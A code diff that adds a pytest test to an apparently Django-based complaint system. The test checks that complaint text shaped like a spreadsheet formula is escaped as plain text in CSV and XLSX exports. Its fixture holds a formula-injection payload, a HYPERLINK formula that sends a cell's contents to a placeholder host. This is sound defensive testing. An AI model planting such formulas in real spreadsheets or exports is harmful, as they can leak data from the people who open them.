@@ -102,3 +102,20 @@ def test_the_resource_itself_filters_whatever_queryset_it_is_handed(cases):
     dataset = AduanResource(user=opd).export(queryset=Aduan.objects.all())
     assert len(dataset) == 2
     assert len(AduanResource(user=None).export(queryset=Aduan.objects.all())) == 0
+
+
+def test_a_complaint_written_as_a_formula_is_exported_as_text(client, aduan_sop):
+    import io
+
+    import openpyxl
+
+    from tests.impor_ekspor import XLSX
+
+    engine.start(AduanFactory(uraian='=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")\x07 lampu mati'))
+    client.force_login(UserFactory(username="root", is_staff=True, is_superuser=True))
+    (row,) = baca_csv(ekspor(client, Aduan))
+    assert row["uraian aduan"].startswith("'=HYPERLINK(")
+    sheet = openpyxl.load_workbook(io.BytesIO(ekspor(client, Aduan, fmt=XLSX).content)).active
+    headers = [c.value for c in sheet[1]]
+    cell = sheet.cell(row=2, column=headers.index("uraian aduan") + 1)
+    assert cell.data_type == "s" and cell.value.startswith("'=HYPERLINK(")
